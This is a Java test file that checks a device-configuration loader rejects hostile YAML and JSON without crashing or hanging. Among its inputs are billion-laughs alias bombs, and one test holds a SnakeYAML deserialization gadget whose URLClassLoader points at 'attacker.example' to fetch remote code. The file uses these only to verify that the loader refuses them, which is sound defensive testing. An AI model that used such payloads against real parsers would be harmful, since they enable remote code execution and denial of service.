package dev.netlint.core.internal.load;

import static org.assertj.core.api.Assertions.assertThat;

import dev.netlint.core.finding.LoadProblem;
import dev.netlint.core.finding.Severity;
import dev.netlint.core.internal.load.source.LoadLimits;
import dev.netlint.core.model.Location;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Random;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicBoolean;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/**
 * Hostile or broken input gives a finding that names the file, never an exception out of
 * {@link DeviceLoader#load}, never a hang, never an out-of-memory. The module's tests run with a 512 MB
 * heap (see its POM), so a regression that builds big structures fails here.
 */
// a hang guard, not a timing assertion: generous enough for two cores shared with other builds
@Timeout(value = 2, unit = TimeUnit.MINUTES)
class HostileInputTest {

    /** Set by {@link Canary}'s static initializer: proof that a tag made someone load the class. */
    static final AtomicBoolean CANARY_LOADED = new AtomicBoolean();

    /** A class named by a tag; loading it would trip {@link #CANARY_LOADED}. */
    public static final class Canary {
        static {
            CANARY_LOADED.set(true);
        }
    }

    @TempDir
    Path dir;

    private LoadedDevice load(LoadLimits limits, String name, byte[] bytes) throws IOException {
        Path file = dir.resolve(name);
        Files.write(file, bytes);
        return new DeviceLoader(limits, p -> p.getFileName().toString())
                .load(new DeviceInput(file, name, List.of(file)));
    }

    private LoadedDevice load(String name, byte[] bytes) throws IOException {
        return load(LoadLimits.DEFAULT, name, bytes);
    }

    private LoadedDevice load(String name, String text) throws IOException {
        return load(name, text.getBytes(StandardCharsets.UTF_8));
    }

    /** The one parse-error of a device, which must name the file. */
    private static LoadProblem parseError(LoadedDevice loaded, String file) {
        List<LoadProblem> errors = loaded.problems().stream()
                .filter(p -> p.rule().equals(LoadProblem.PARSE_ERROR)).toList();
        assertThat(errors).as("parse errors in %s", loaded.problems()).hasSize(1);
        LoadProblem error = errors.get(0);
        assertThat(error.location().file()).isEqualTo(file);
        assertThat(error.message()).doesNotContain("\n").isNotBlank();
        return error;
    }

    @Test
    void billionLaughsStopsAtTheExpansionCap() throws IOException {
        StringBuilder bomb = new StringBuilder("a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
        for (char c = 'b'; c <= 'i'; c++) {
            String previous = "*" + (char) (c - 1);
            bomb.append(c).append(": &").append(c).append(" [").append(String.join(", ",
                    java.util.Collections.nCopies(9, previous))).append("]\n");
        }
        bomb.append("kubernetes: { routes: *i }\n");

        LoadedDevice loaded = load("bomb.yaml", bomb.toString());

        LoadProblem error = parseError(loaded, "bomb.yaml");
        assertThat(error.message()).contains("aliases expand to more than 100000 parse events");
        assertThat(error.location().line()).isEqualTo(6);
        assertThat(loaded.device().kubernetes().location()).isNull();
    }

    @Test
    void aBigAnchoredNodeIsNotKeptAndAnAliasToItIsRefused() throws IOException {
        String big = "device:\n  certificates: &all\n" + "    - 1\n".repeat(100_001);

        LoadedDevice unused = load("anchored.yaml", big + "  network: { interfaces: [ { name: Port2 } ] }\n");
        LoadedDevice aliased = load("aliased.yaml", big + "  time: *all\n");

        assertThat(unused.problems()).isEmpty();
        assertThat(unused.device().interfaces()).hasSize(1);
        LoadProblem error = parseError(aliased, "aliased.yaml");
        assertThat(error.message()).contains("*all expands to more than 100000 parse events");
        assertThat(error.location().line()).isEqualTo(100_004);
    }

    @Test
    void moreThanFiftyAliasesInOneDocumentAreRefused() throws IOException {
        String aliases = String.join(", ", java.util.Collections.nCopies(51, "*port"));

        LoadedDevice loaded = load("aliases.yaml", "device:\n  network:\n    interfaces:\n"
                + "      - &port { name: Port2 }\n    unused: [" + aliases + "]\n");

        LoadProblem error = parseError(loaded, "aliases.yaml");
        assertThat(error.message()).contains("more than 50 aliases in one document");
        assertThat(error.location()).isEqualTo(new Location("aliases.yaml", 5, 14 + 7 * 50, ""));
    }

    @Test
    void aliasesWithinTheLimitsAreExpanded() throws IOException {
        LoadedDevice loaded = load("anchors.yaml", """
                device:
                  network:
                    interfaces:
                      - &port2 { name: Port2, isDhcpEnabled: false, dnsServerAddresses: &dns [10.0.0.2] }
                      - { name: Port3, dnsServerAddresses: *dns }
                    vSwitches:
                      - { name: vSwitch1, interfaceName: *port2 }
                """);

        assertThat(loaded.device().interfaces()).extracting(i -> i.dnsServers().size()).containsExactly(1, 1);
        assertThat(loaded.problems()).singleElement().satisfies(p -> {
            assertThat(p.rule()).isEqualTo(LoadProblem.INVALID_VALUE);
            assertThat(p.location().pointer()).isEqualTo("/device/network/vSwitches/0/interfaceName");
        });
    }

    @Test
    void aFewAliasesThatExpandHugelyStopAtTheExpansionCap() throws IOException {
        StringBuilder bomb = new StringBuilder("a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
        for (char c = 'b'; c <= 'f'; c++) {
            String previous = "*" + (char) (c - 1);
            bomb.append(c).append(": &").append(c).append(" [").append(String.join(", ",
                    java.util.Collections.nCopies(9, previous))).append("]\n");
        }

        LoadedDevice loaded = load("laughs.yaml", bomb.toString());

        assertThat(parseError(loaded, "laughs.yaml").message()).contains("aliases expand to more than 100000");
    }

    @Test
    void aHundredThousandNestedBracketsStopAtTheDepthLimit() throws IOException {
        String oneLine = "kubernetes: " + "[".repeat(100_000) + "\n";
        String manyLines = "[\n".repeat(100_000);
        String json = "{\"kubernetes\": " + "{\"a\":".repeat(100_000) + "1" + "}".repeat(100_001);

        assertThat(parseError(load("one-line.yaml", oneLine), "one-line.yaml").message()).isNotBlank();
        LoadProblem lines = parseError(load("lines.yaml", manyLines), "lines.yaml");
        assertThat(lines.message()).contains("deeper than 100");
        assertThat(lines.location().line()).isEqualTo(101);
        assertThat(parseError(load("deep.json", json), "deep.json").message()).contains("deeper than 100");
    }

    @Test
    void randomBytesAreAParseError() throws IOException {
        byte[] noise = new byte[200 * 1024];
        new Random(20240611L).nextBytes(noise);

        LoadedDevice loaded = load("noise.yaml", noise);

        parseError(loaded, "noise.yaml");
        assertThat(loaded.device().deviceLocation()).isNull();
    }

    @Test
    void randomPrintableTextNeverThrows() throws IOException {
        Random random = new Random(7L);
        String alphabet = "abc:{}[],-?*&!|>'\"#%@` \n\t0123456789.";
        for (int round = 0; round < 50; round++) {
            StringBuilder text = new StringBuilder("device:\n  network:\n    ");
            for (int i = 0; i < 2_000; i++) {
                text.append(alphabet.charAt(random.nextInt(alphabet.length())));
            }
            String name = "garbage-" + round + ".yaml";
            LoadedDevice loaded = load(name, text.toString());
            assertThat(loaded.problems()).allSatisfy(p -> assertThat(p.location().file()).isEqualTo(name));
        }
    }

    @Test
    void invalidUtf8IsAParseErrorNamingItsLine() throws IOException {
        byte[] head = "device:\n  deviceEndpoint:\n    name: caf".getBytes(StandardCharsets.US_ASCII);
        byte[] bytes = new byte[head.length + 3];
        System.arraycopy(head, 0, bytes, 0, head.length);
        bytes[head.length] = (byte) 0xC3;
        bytes[head.length + 1] = (byte) 0x28;
        bytes[head.length + 2] = '\n';

        LoadProblem error = parseError(load("latin.yaml", bytes), "latin.yaml");

        assertThat(error.message()).contains("not valid UTF-8", "line 3");
    }

    @Test
    void anEmptyFileIsSkippedWithAnInfo() throws IOException {
        for (String text : new String[] {"", "\n\n", "# only a comment\n", "---\n", "~\n"}) {
            LoadedDevice loaded = load("empty.yaml", text);

            assertThat(loaded.problems()).as("%s", text).singleElement().satisfies(p -> {
                assertThat(p.rule()).isEqualTo(LoadProblem.UNKNOWN_KEY);
                assertThat(p.severity()).isEqualTo(Severity.INFO);
                assertThat(p.location()).isEqualTo(Location.ofFile("empty.yaml"));
                assertThat(p.message()).contains("empty");
            });
        }
    }

    @Test
    void aSecondDocumentIsAParseErrorAndTheFirstIsKept() throws IOException {
        LoadedDevice loaded = load("two.yaml", "device:\n  deviceEndpoint: { dnsDomain: a.example.com }\n---\n"
                + "kubernetes: {}\n");

        LoadProblem error = parseError(loaded, "two.yaml");
        assertThat(error.message()).contains("second YAML document");
        assertThat(error.location().line()).isEqualTo(3);
        assertThat(loaded.device().dnsDomain().value()).isEqualTo("a.example.com");
        assertThat(loaded.device().kubernetes().location()).isNull();
    }

    @Test
    void javaTagsAreRefusedAndNothingIsInstantiated() throws IOException {
        String canary = "!!" + Canary.class.getName();
        String text = "device: " + canary + " { network: {} }\n"
                + "kubernetes:\n"
                + "  podSubnet: " + canary + " 10.244.0.0/16\n"
                + "  routes: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
                + " [\"http://attacker.example/\"]]]]\n"
                + "  services:\n"
                + "    - { name: !!java.lang.String web, type: !!str LoadBalancer }\n"
                + "unmodelled: " + canary + " {}\n";

        LoadedDevice loaded = load("tags.yaml", text);

        assertThat(CANARY_LOADED).isFalse();
        assertThat(loaded.problems()).extracting(LoadProblem::rule).containsOnly(LoadProblem.INVALID_VALUE);
        assertThat(loaded.problems()).extracting(p -> p.location().line()).containsExactly(1, 3, 4, 6, 6);
        assertThat(loaded.problems().get(0).message()).contains(canary, "not allowed");
        assertThat(loaded.problems().get(2).message()).contains("!!javax.script.ScriptEngineManager");
        assertThat(loaded.device().kubernetes().podSubnet()).isNull();
        assertThat(loaded.device().kubernetes().services().get(0).name()).isNull();
    }

    @Test
    void aNumberTooLargeForAnyIntegerIsAnInvalidValue() throws IOException {
        String digits = "9".repeat(10_000);

        LoadedDevice loaded = load("big.yaml", "device:\n  network:\n    vSwitches:\n      - { name: vSwitch1,"
                + " interfaceName: Port3, mtu: " + digits + " }\n");

        assertThat(loaded.problems()).singleElement().satisfies(p -> {
            assertThat(p.rule()).isEqualTo(LoadProblem.INVALID_VALUE);
            assertThat(p.message()).contains("too large").hasSizeLessThan(200);
            assertThat(p.location().pointer()).isEqualTo("/device/network/vSwitches/0/mtu");
        });
    }

    @Test
    void aComplexKeyIsAnInvalidValue() throws IOException {
        LoadedDevice loaded = load("complex.yaml", "device:\n  network:\n    ? [interfaces, vSwitches]\n    : []\n"
                + "    ? { a: 1 }\n    : x\n    interfaces: [ { name: Port2 } ]\n");

        assertThat(loaded.problems()).extracting(LoadProblem::rule, p -> p.location().line()).containsExactly(
                org.assertj.core.groups.Tuple.tuple(LoadProblem.INVALID_VALUE, 3),
                org.assertj.core.groups.Tuple.tuple(LoadProblem.INVALID_VALUE, 5));
        assertThat(loaded.problems().get(0).message()).contains("a key must be a plain value, found a list");
        assertThat(loaded.device().interfaces()).hasSize(1);
    }

    @Test
    void aTwentyMegabyteValueIsRefusedQuickly() throws IOException {
        String huge = "x".repeat(20 * 1024 * 1024);

        LoadProblem json = parseError(load("huge.json", "{\n  \"device\": {\n    \"deviceEndpoint\": {\n"
                + "      \"name\": \"" + huge + "\"\n    }\n  }\n}\n"), "huge.json");
        LoadProblem yaml = parseError(load("huge.yaml", "device:\n  deviceEndpoint:\n    name: " + huge + "\n"),
                "huge.yaml");
        LoadProblem block = parseError(load("block.yaml", "device:\n  time:\n    timeZone: |\n      "
                + "x ".repeat(10 * 1024 * 1024) + "\n"), "block.yaml");

        assertThat(json.location()).isEqualTo(new Location("huge.json", 4, 15, ""));
        assertThat(json.message()).contains("more than 65,536 characters");
        assertThat(yaml.location().line()).isEqualTo(3);
        assertThat(yaml.message()).contains("line 3");
        assertThat(block.location().line()).isEqualTo(4);
    }

    @Test
    void aLongValueSpreadOverShortLinesIsReadInLinearTime() throws IOException {
        String lines = ("      " + "y".repeat(90) + "\n").repeat(50_000);

        LoadedDevice loaded = load("long.yaml", "device:\n  deviceEndpoint:\n    dnsDomain: |\n" + lines
                + "  network: { interfaces: [ { name: Port2 } ] }\n");

        assertThat(loaded.problems()).isEmpty();
        assertThat(loaded.device().dnsDomain().value()).hasSize(91 * 50_000);
        assertThat(loaded.device().interfaces()).hasSize(1);
    }

    @Test
    void aCompressedJsonExportOnOneLongLineIsRead() throws IOException {
        StringBuilder json = new StringBuilder("{\"kubernetes\":{\"routes\":[");
        for (int i = 0; i < 1_500; i++) {
            json.append(i == 0 ? "" : ",").append("{\"interfaceAlias\":\"Port3\",\"destinationPrefix\":\"10.")
                    .append(i / 256).append('.').append(i % 256).append(".0/24\",\"nextHop\":\"192.168.20.1\"}");
        }
        json.append("]}}");
        assertThat(json.length()).isGreaterThan(LoadLimits.DEFAULT.maxTokenChars());

        LoadedDevice loaded = load("compressed.json", json.toString());

        // routes without a 'device': only the note that the ports they need are not declared
        assertThat(loaded.problems()).extracting(p -> p.rule()).containsExactly("missing-value");
        assertThat(loaded.device().kubernetes().routes()).hasSize(1_500);
    }

    @Test
    void aBomAndCrlfLineEndsValidateCleanlyWithTheSameLinesAndColumns() throws IOException {
        String text = "device:\r\n  network:\r\n    interfaces:\r\n      - name: Port2\r\n"
                + "        iPv4: { address: 10.57.48.10, subnetMask: 255.255.255.0 }\r\n";

        LoadedDevice loaded = load("crlf.yaml", LoaderTexts.utf8WithBom(text));

        assertThat(loaded.problems()).isEmpty();
        assertThat(loaded.device().interfaces().get(0).name().location()).isEqualTo(
                new Location("crlf.yaml", 4, 15, "/device/network/interfaces/0/name"));
        assertThat(loaded.device().interfaces().get(0).ipv4().subnetMask().location()).isEqualTo(
                new Location("crlf.yaml", 5, 51, "/device/network/interfaces/0/iPv4/subnetMask"));
        assertThat(loaded.sources().get("crlf.yaml").line(5)).startsWith("        iPv4:").doesNotContain("\r");
    }

    @Test
    void aFileOverTheSizeLimitIsNotRead() throws IOException {
        String text = "device:\n  deviceEndpoint: { dnsDomain: a.example.com }\n";
        LoadLimits limits = LoadLimits.DEFAULT.withMaxFileBytes(text.length() - 1);

        LoadedDevice over = load(limits, "big.yaml", text.getBytes(StandardCharsets.UTF_8));
        LoadedDevice at = load(LoadLimits.DEFAULT.withMaxFileBytes(text.length()), "fits.yaml",
                text.getBytes(StandardCharsets.UTF_8));

        assertThat(parseError(over, "big.yaml").message()).contains("size limit of " + (text.length() - 1) + " bytes");
        assertThat(over.sources()).isEmpty();
        assertThat(at.problems()).isEmpty();
        assertThat(at.device().dnsDomain().value()).isEqualTo("a.example.com");
    }

    @Test
    void utf16WithAByteOrderMarkIsRead() throws IOException {
        String text = "{\r\n    \"device\":  {\r\n                   \"deviceEndpoint\":  {\r\n"
                + "                                          \"dnsDomain\":  \"plant.example.com\"\r\n"
                + "                                      }\r\n               }\r\n}\r\n";
        byte[] big = text.getBytes(StandardCharsets.UTF_16BE);
        byte[] bigWithBom = new byte[big.length + 2];
        bigWithBom[0] = (byte) 0xFE;
        bigWithBom[1] = (byte) 0xFF;
        System.arraycopy(big, 0, bigWithBom, 2, big.length);

        for (LoadedDevice loaded : List.of(load("le.json", LoaderTexts.utf16leWithBom(text)), load("be.json", bigWithBom))) {
            assertThat(loaded.problems()).isEmpty();
            assertThat(loaded.device().dnsDomain().value()).isEqualTo("plant.example.com");
            assertThat(loaded.device().dnsDomain().location().line()).isEqualTo(4);
            assertThat(loaded.device().dnsDomain().location().column()).isEqualTo(57);
        }
    }

    @Test
    void utf16WithoutAByteOrderMarkIsNamedAsSuch() throws IOException {
        LoadProblem error = parseError(load("nobom.json", "{\"device\": {}}".getBytes(StandardCharsets.UTF_16LE)),
                "nobom.json");

        assertThat(error.message()).contains("UTF-16 without a byte-order mark");
    }

    @Test
    void binaryContentAndControlCharactersAreParseErrors() throws IOException {
        byte[] png = {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n', 0, 0, 0, 13};
        LoadProblem control = parseError(load("bell.yaml", "device:\n  network: \u0007\n"), "bell.yaml");

        parseError(load("image.yaml", png), "image.yaml");
        assertThat(control.message()).contains("U+0007");
        assertThat(control.location().line()).isEqualTo(2);
        assertThat(control.location().column()).isEqualTo(12);
    }

    @Test
    void anAliasToNothingIsAParseError() throws IOException {
        LoadProblem error = parseError(load("alias.yaml", "device:\n  network: *net\n"), "alias.yaml");

        assertThat(error.message()).contains("*net");
        assertThat(error.location().line()).isEqualTo(2);
    }

    @Test
    void aMissingFileOrAFolderIsAParseErrorNotAnException() throws IOException {
        Path gone = dir.resolve("gone.yaml");
        Path folder = Files.createDirectory(dir.resolve("folder.yaml"));
        DeviceLoader loader = new DeviceLoader(LoadLimits.DEFAULT, p -> p.getFileName().toString());

        LoadedDevice loaded = loader.load(new DeviceInput(dir, "dir", List.of(gone, folder)));

        assertThat(loaded.problems()).extracting(LoadProblem::rule).containsOnly(LoadProblem.PARSE_ERROR);
        assertThat(loaded.problems()).extracting(p -> p.location().file()).containsExactly("gone.yaml", "folder.yaml");
        assertThat(loaded.problems().get(0).message()).isEqualTo("cannot read the file: no such file");
        assertThat(loaded.device().files()).containsExactly("gone.yaml", "folder.yaml");
    }
}
